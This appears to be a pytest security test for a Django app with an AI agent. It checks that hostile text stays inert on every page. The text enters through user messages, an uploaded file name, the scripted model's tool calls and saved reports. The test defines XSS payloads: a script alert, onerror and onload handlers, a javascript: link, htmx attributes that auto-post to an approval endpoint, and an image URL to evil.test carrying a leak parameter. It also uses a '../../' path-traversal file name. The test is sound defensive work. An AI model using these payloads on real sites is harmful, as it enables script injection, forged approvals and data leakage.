"""Hostile words by everybody who can write some (person, file name, document, model, tool), on every page that shows them."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from artifacts.models import Version
from conversations.models import Turn
from conversations.services import start_conversation
from operations.models import Operation
from tests.modelserver import ModelServer, called, said
from tests.operations.conftest import Ledger, _one_press, ledger, press  # noqa: F401
from tests.web.parsing import Elements

ALERT = "<script>alert('XSS')</script>"
IMAGE = '<img src=x onerror="alert(1)">'
CONTENT = f"""\
# {ALERT}

{IMAGE} <svg/onload=alert(1)> [c](javascript:alert(1)) ![x](https://evil.test/p.png?leak=S1)
<div hx-post="/approvals/1/approve" hx-trigger="load" data-hx-get="/x" hx-on:click="alert(1)">press me</div>
<img srcset="//evil.test/q 2x">
"""


def _script(_: int, body: dict[str, Any]) -> Any:
    results = [json.loads(message["content"]) for message in body["messages"] if message["role"] == "tool"]
    if not results:
        return called(("list_sources", {}), ids=["call-a"])
    if len(results) == 1:
        return called(("save_report", {"title": f"T {ALERT}", "markdown": CONTENT, "citations": []}), ids=["call-b"])
    if len(results) == 2:
        saved = results[1]
        arguments = {"artifact_id": saved["artifact_id"], "number": saved["number"]}
        return called(("propose_publication", arguments), ids=["call-c"], text=CONTENT)
    return said(CONTENT)


@pytest.fixture
def model(settings: Any) -> Iterator[ModelServer]:
    with ModelServer(script=_script) as server:
        settings.AGENT_MODEL, settings.OPENAI_BASE_URL = "openai-chat:scripted", server.url
        yield server


def _client(person: Any) -> Client:
    client = Client()
    client.force_login(person)
    return client


@pytest.mark.case("R1")
@pytest.mark.case("R2")
@pytest.mark.case("R4")
@pytest.mark.case("U1")
def test_whatever_anybody_wrote_is_inert_on_every_page_that_shows_it(
    transactional_db: None,
    ledger: Ledger,  # noqa: F811
    model: ModelServer,
    run_jobs: Callable[[], None],
) -> None:
    member, reviewer = _client(ledger.member), _client(ledger.reviewer)
    conversation = start_conversation(person=ledger.member, tenant=ledger.tenant)
    file = SimpleUploadedFile("placeholder.md", f"{CONTENT}\nA fact.\n".encode())
    file._name = f"../../{IMAGE}.md"  # as a client may send it, past what the class tidies up
    sent = member.post(
        f"/conversations/{conversation.pk}/messages/",
        {"text": f"{ALERT} {IMAGE} publish it", "client_key": "k", "attachment": file},
        headers={"Accept": "application/json"},
    )
    assert sent.status_code == 201, sent.content
    run_jobs()
    ledger.approve(Operation.objects.get())
    run_jobs()
    turn = Turn.objects.get()
    assert turn.status == "completed"
    report = Version.objects.get(title__contains="<script>")
    request_id = Operation.objects.get().request_id

    seen = {
        f"/conversations/{conversation.pk}/": member,
        "/conversations/": member,
        "/": member,
        "/artifacts/": member,
        f"/approvals/{request_id}/": reviewer,
        "/approvals/?view=approved": reviewer,
        **{f"/artifacts/{v.artifact_id}/versions/{v.number}/": member for v in Version.objects.all()},
        **{
            f"/artifacts/{report.artifact_id}/versions/1/?tab={tab}": member
            for tab in ("document", "changes", "versions", "lineage")
        },
    }
    shown = ""
    for address, client in seen.items():
        response = client.get(address)
        assert response.status_code == 200, address
        page = Elements(response.content.decode())
        shown += page.text
        _assert_inert(page, address)
    assert "alert('XSS')" in shown and "onerror" in shown, "the premise: the words are there, as words"
    assert "evil.test" in shown, "the address of a picture is told instead of fetched"


def _assert_inert(page: Elements, address: str) -> None:
    for script in page.all("script"):
        assert script.get("src", "").startswith("/static/"), f"{address}: a script of content"
    for tag, attributes in page.elements:
        where = f"{address}: <{tag} {attributes}>"
        assert not [name for name in attributes if name.startswith(("on", "hx-on", "data-hx"))], where
        assert "/approvals/1/approve" not in attributes.values(), where
        assert not [value for value in attributes.values() if value.strip().lower().startswith("javascript:")], where
        loads = [attributes.get(name, "") for name in ("src", "srcset", "data", "poster", "background", "action")]
        assert not [value for value in loads if "evil.test" in value], where
        if tag in ("img", "svg", "iframe", "object", "embed", "div"):
            assert "onload" not in attributes and "srcset" not in attributes, where
